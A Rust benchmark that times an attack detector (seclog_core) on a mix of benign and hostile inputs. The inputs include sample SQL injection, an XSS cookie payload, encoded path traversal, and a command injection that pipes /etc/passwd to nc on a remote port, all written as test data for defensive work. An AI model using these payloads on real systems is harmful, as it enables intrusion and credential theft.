//! Rough per-input timing of the detector on the benchmark mix (a development aid).
#![allow(missing_docs)]

use seclog_core::detect::{detect, normalise};
use std::time::Instant;

fn main() {
    let inputs = [
        "john.smith@example.com",
        "Please deliver after 5pm, ring the bell twice.",
        "/account/statements/2024/03?page=2&sort=desc",
        "O'Reilly Media, 1005 Gravenstein Hwy N, CA",
        "1 UNION SELECT username, password FROM users--",
        "' OR '1'='1' -- ",
        "<img src=x onerror=alert(document.cookie)>",
        "..%2f..%2f..%2fetc%2fpasswd",
        "; cat /etc/passwd | nc 10.0.0.1 4444",
        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101",
    ];
    if std::env::args().nth(1).as_deref() == Some("big") {
        // For callgrind: N (default 3) full scans of the benchmark's 1 MiB input (the mix
        // repeated), limit raised to 2 MiB.
        let rounds: usize = std::env::args().nth(2).and_then(|a| a.parse().ok()).unwrap_or(3);
        let mut big = String::with_capacity(1 << 20);
        let mut i = 0;
        while big.len() < (1 << 20) {
            big.push_str(inputs[i % inputs.len()]);
            big.push(' ');
            i += 1;
        }
        let d = seclog_core::detect::Detector::new(2 << 20);
        let mut n = 0;
        for _ in 0..rounds {
            n += seclog_core::detect::AttackDetector::detect(&d, std::hint::black_box(&big)).len();
        }
        println!("{n}");
        return;
    }
    if std::env::args().nth(1).as_deref() == Some("loop") {
        // For `perf stat` / `valgrind --tool=callgrind`: 10 x N detections over the mix
        // (N = second argument, default 100,000).
        // A third argument restricts the loop to the input with that index (0-9).
        let rounds: usize = std::env::args().nth(2).and_then(|a| a.parse().ok()).unwrap_or(100_000);
        let only: Option<usize> = std::env::args().nth(3).and_then(|a| a.parse().ok());
        let chosen: Vec<&str> = match only {
            Some(i) => inputs.get(i).into_iter().copied().collect(),
            None => inputs.to_vec(),
        };
        let mut n = 0;
        for _ in 0..rounds {
            for s in &chosen {
                n += detect(std::hint::black_box(s)).len();
            }
        }
        println!("{n}");
        return;
    }
    for s in inputs {
        let t = Instant::now();
        for _ in 0..20000 {
            std::hint::black_box(normalise(std::hint::black_box(s)));
        }
        let n = t.elapsed() / 20000;
        let t = Instant::now();
        for _ in 0..20000 {
            std::hint::black_box(detect(std::hint::black_box(s)));
        }
        println!("{s}: normalise {:?} detect {:?}", n, t.elapsed() / 20000);
    }
}
